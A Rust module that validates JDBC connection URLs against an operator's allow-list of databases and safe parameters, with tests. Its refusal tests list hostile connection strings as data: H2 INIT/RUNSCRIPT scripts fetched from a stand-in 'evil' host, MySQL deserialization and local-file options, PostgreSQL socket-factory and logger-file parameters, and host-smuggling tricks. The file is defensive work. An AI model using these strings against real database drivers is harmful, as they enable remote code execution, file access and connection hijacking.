//! Which databases a grant reaches.
//!
//! A URL that only begins with a listed one may differ in what follows, and what follows may lead anywhere: a host behind
//! `@`, a parameter that names another host, a class to load or a file to write. So of what follows only plain paths and
//! parameters that are known to be harmless are taken.

use super::database::{Database, check_form, is_parameter_name};

/// What may be set in a URL or as a property; compared without case. None of them names a host, a class, a file or a
/// credential, or runs anything.
const PARAMETERS: [&str; 41] = [
    "access_mode_data",
    "applicationintent",
    "applicationname",
    "case_insensitive_identifiers",
    "characterencoding",
    "connecttimeout",
    "currentschema",
    "database",
    "database_to_lower",
    "database_to_upper",
    "databasename",
    "db_close_delay",
    "db_close_on_exit",
    "defaultrowfetchsize",
    "encrypt",
    "fetchsize",
    "get_column_name",
    "ifexists",
    "lazy_query_execution",
    "logintimeout",
    "mode",
    "non_keywords",
    "preparethreshold",
    "program_name",
    "querytimeout",
    "readonly",
    "requiressl",
    "schema",
    "servertimezone",
    "sockettimeout",
    "ssl",
    "sslmode",
    "stringtype",
    "tcpkeepalive",
    "time zone",
    "trustservercertificate",
    "usecompression",
    "usecursorfetch",
    "usessl",
    "useunicode",
    "verifyservercertificate",
];

/// Why a URL is not that of a listed database.
enum Refusal {
    /// It is another one.
    Other,
    Parameter(String),
}

/// Checks that this URL is one of those, with these properties.
pub(super) fn check(databases: &[Database], more: &[String], url: &str, properties: &[&str]) -> Result<(), String> {
    check_form(url)?;
    let mut refused = None;
    let allowed = databases.iter().any(|database| match allows(database.text(), url, more) {
        Ok(()) => true,
        Err(Refusal::Parameter(name)) => {
            refused = Some(name);
            false
        }
        Err(Refusal::Other) => false,
    });
    let set = properties.iter().find_map(|name| match check_parameter(name, more) {
        Err(Refusal::Parameter(name)) => Some(name),
        _ => None,
    });
    match (allowed, refused, set) {
        (true, _, None) => Ok(()),
        (false, None, _) => Err(none_of(databases)),
        (_, Some(name), _) | (_, None, Some(name)) => Err(format!(
            "the parameter {name:?} may not be set by a job: allowed are {}, and what its operator lists in `parameters`",
            PARAMETERS.join(", ")
        )),
    }
}

fn none_of(databases: &[Database]) -> String {
    if databases.is_empty() {
        return "no database may be asked: its operator lists them in `databases`".to_owned();
    }
    let listed: Vec<&str> = databases.iter().map(Database::shown).collect();
    format!("this database is none of those that its operator lists in `databases`: {}", listed.join(", "))
}

fn check_parameter(name: &str, more: &[String]) -> Result<(), Refusal> {
    let known = PARAMETERS.iter().any(|known| known.eq_ignore_ascii_case(name));
    if known || more.iter().any(|known| known.eq_ignore_ascii_case(name)) {
        return Ok(());
    }
    let name = if is_parameter_name(name) { name } else { "?" };
    Err(Refusal::Parameter(name.to_owned()))
}

fn allows(listed: &str, url: &str, more: &[String]) -> Result<(), Refusal> {
    let rest = url.strip_prefix(listed).ok_or(Refusal::Other)?;
    if rest.is_empty() {
        return Ok(());
    }
    let (path, parameters) = rest.split_at(rest.find(['?', ';']).unwrap_or(rest.len()));
    let path = if listed.ends_with(['/', ':']) { path } else { after_boundary(listed, path)? };
    let plain = |c: char| c.is_alphanumeric() || matches!(c, '/' | '_' | '-' | '.' | '$' | '~' | ' ');
    // A listed parameter goes on as something else.
    let is_within = listed.contains(['?', ';']) && !path.is_empty();
    if is_within || !path.chars().all(plain) || path.starts_with("//") || path.split('/').any(|part| part == "..") {
        return Err(Refusal::Other);
    }
    for parameter in parameters.split(['?', ';', '&']).filter(|parameter| !parameter.is_empty()) {
        let name = parameter.split('=').next().unwrap_or_default();
        check_parameter(name, more)?;
    }
    Ok(())
}

/// What follows, where it begins with what ends a host: a port or a path.
fn after_boundary<'u>(listed: &str, path: &'u str) -> Result<&'u str, Refusal> {
    if path.is_empty() || path.starts_with('/') {
        return Ok(path);
    }
    let port = path.strip_prefix(':').ok_or(Refusal::Other)?;
    // Behind a host that has a port already, or where there is no host, it would be something else.
    let host = listed.split_once("//").map(|(_, host)| host).ok_or(Refusal::Other)?;
    let (digits, path) = port.split_at(port.find('/').unwrap_or(port.len()));
    let is_port = !digits.is_empty() && digits.len() <= 5 && digits.bytes().all(|byte| byte.is_ascii_digit());
    if is_port && !host.contains([':', '/']) { Ok(path) } else { Err(Refusal::Other) }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn databases(list: &[&str]) -> Vec<Database> {
        list.iter().map(|text| Database::new(*text).unwrap()).collect()
    }

    fn allowed(listed: &str, url: &str) -> bool {
        check(&databases(&[listed]), &[], url, &[]).is_ok()
    }

    #[test]
    fn what_begins_as_a_listed_one_and_stays_there_is_allowed() {
        for (listed, url) in [
            ("jdbc:h2:mem:", "jdbc:h2:mem:"),
            ("jdbc:h2:mem:", "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1;MODE=PostgreSQL"),
            (
                "jdbc:postgresql://db.example.com/",
                "jdbc:postgresql://db.example.com/shop?sslmode=verify-full&ApplicationName=x",
            ),
            ("jdbc:postgresql://db.example.com", "jdbc:postgresql://db.example.com:5432/shop"),
            ("jdbc:postgresql://db.example.com:5432", "jdbc:postgresql://db.example.com:5432/shop"),
            ("jdbc:sqlserver://db.example.com", "jdbc:sqlserver://db.example.com:1433;databaseName=shop;encrypt=true"),
            ("jdbc:oracle:thin:@//db.example.com:1521/", "jdbc:oracle:thin:@//db.example.com:1521/shop"),
            ("jdbc:sqlite:/data/", "jdbc:sqlite:/data/shop/one.db"),
            ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a.sql'", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a.sql'"),
        ] {
            assert!(allowed(listed, url), "{listed}: {url}");
        }
    }

    #[test]
    fn what_leads_elsewhere_is_refused() {
        for (listed, url) in [
            ("jdbc:postgresql://db.example.com", "jdbc:postgresql://db.example.com@evil/"),
            ("jdbc:postgresql://db.example.com", "jdbc:postgresql://db.example.com.evil/"),
            ("jdbc:postgresql://db.example.com", "jdbc:postgresql://db.example.com:x@evil/"),
            ("jdbc:postgresql://db.example.com", "jdbc:postgresql://db.example.com:1@evil/"),
            ("jdbc:postgresql://db.example.com", "jdbc:postgresql://db.example.com,evil/"),
            ("jdbc:postgresql://db.example.com:5432", "jdbc:postgresql://db.example.com:54321/"),
            ("jdbc:postgresql://db.example.com:5432", "jdbc:postgresql://db.example.com:5432:1/"),
            ("jdbc:postgresql://db.example.com/", "jdbc:postgresql://db.example.com/x?PGHOST=evil"),
            (
                "jdbc:postgresql://db.example.com/",
                "jdbc:postgresql://db.example.com/x?socketFactory=a.B&socketFactoryArg=x",
            ),
            (
                "jdbc:postgresql://db.example.com/",
                "jdbc:postgresql://db.example.com/x?sslmode=require&loggerFile=/etc/x",
            ),
            ("jdbc:postgresql://db.example.com/", "jdbc:postgresql://db.example.com/x?pass%77ord=x"),
            ("jdbc:postgresql://db.example.com/", "jdbc:postgresql://db.example.com/@evil/"),
            ("jdbc:mysql://db.example.com", "jdbc:mysql://db.example.com/x?autoDeserialize=true"),
            ("jdbc:mysql://db.example.com", "jdbc:mysql://db.example.com/x?allowLoadLocalInfile=true"),
            ("jdbc:mysql://db", "jdbc:mysql://(host=evil)/"),
            ("jdbc:h2:mem:", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/a.sql'"),
            ("jdbc:h2:mem:", "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;init=CREATE ALIAS"),
            ("jdbc:h2:mem:", "jdbc:h2:mem:x;MODE=x\\;INIT=CREATE ALIAS"),
            ("jdbc:h2:mem:", "jdbc:h2:tcp://evil/x"),
            ("jdbc:h2:", "jdbc:h2:tcp://evil/x"),
            ("jdbc:sqlite:", "jdbc:sqlite::resource:http://evil/x.db"),
            ("jdbc:sqlite:/data/", "jdbc:sqlite:/data/../etc/x"),
            ("jdbc:sqlite:/data", "jdbc:sqlite:/database"),
            ("jdbc:sqlserver://db.example.com", "jdbc:sqlserver://db.example.com;serverName=evil"),
            ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a.sql'", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a.sql';INIT=x"),
            ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a/b"),
            ("jdbc:sqlite:/data/", "jdbc:sqlite:/data/x.db?open_mode=6"),
            ("jdbc:h2:mem:", "JDBC:H2:MEM:x"),
            ("jdbc:h2:mem:", "jdbc:h2:mem"),
        ] {
            assert!(!allowed(listed, url), "{listed}: {url}");
        }
        assert!(check(&[], &[], "jdbc:h2:mem:", &[]).unwrap_err().contains("no database may be asked"));
    }

    #[test]
    fn properties_are_held_to_the_same_and_an_operator_may_list_more() {
        let listed = databases(&["jdbc:h2:mem:"]);
        assert_eq!(check(&listed, &[], "jdbc:h2:mem:", &["sslMode"]), Ok(()));
        let told = check(&listed, &[], "jdbc:h2:mem:", &["INIT"]).unwrap_err();
        assert!(told.contains("\"INIT\" may not be set") && told.contains("sslmode"), "{told}");
        let more = ["sslrootcert".to_owned()];
        assert_eq!(check(&listed, &more, "jdbc:h2:mem:x;sslRootCert=/a", &["sslrootcert"]), Ok(()));
    }

    #[test]
    fn a_listed_one_has_a_form_and_shows_no_credential() {
        for (text, says) in [
            ("h2:mem:", "does not begin with jdbc:"),
            ("jdbc:h2", "no kind"),
            ("jdbc:postgresql://", "no host"),
            ("jdbc:h2:\n", "control characters"),
        ] {
            assert!(Database::new(text).unwrap_err().contains(says), "{text}");
        }
        let listed = databases(&["jdbc:h2:mem:x;password=hush-hush"]);
        let told = check(&listed, &[], "jdbc:h2:mem:y", &[]).unwrap_err();
        assert!(told.ends_with("jdbc:h2:mem:x") && !format!("{listed:?}").contains("hush"), "{told}");
    }

    proptest! {
        #[test]
        fn nothing_after_a_host_makes_it_another_host(rest in "[a-z0-9@:,.()%/\\\\?&;=-]{0,24}") {
            let url = format!("jdbc:postgresql://db.example.com{rest}");
            if allowed("jdbc:postgresql://db.example.com", &url) {
                let authority = rest.split(['/', '?', ';']).next().unwrap();
                let port = authority.strip_prefix(':').unwrap_or("0");
                prop_assert!(authority.is_empty() || port.bytes().all(|byte| byte.is_ascii_digit()), "{}", url);
            }
        }
    }
}
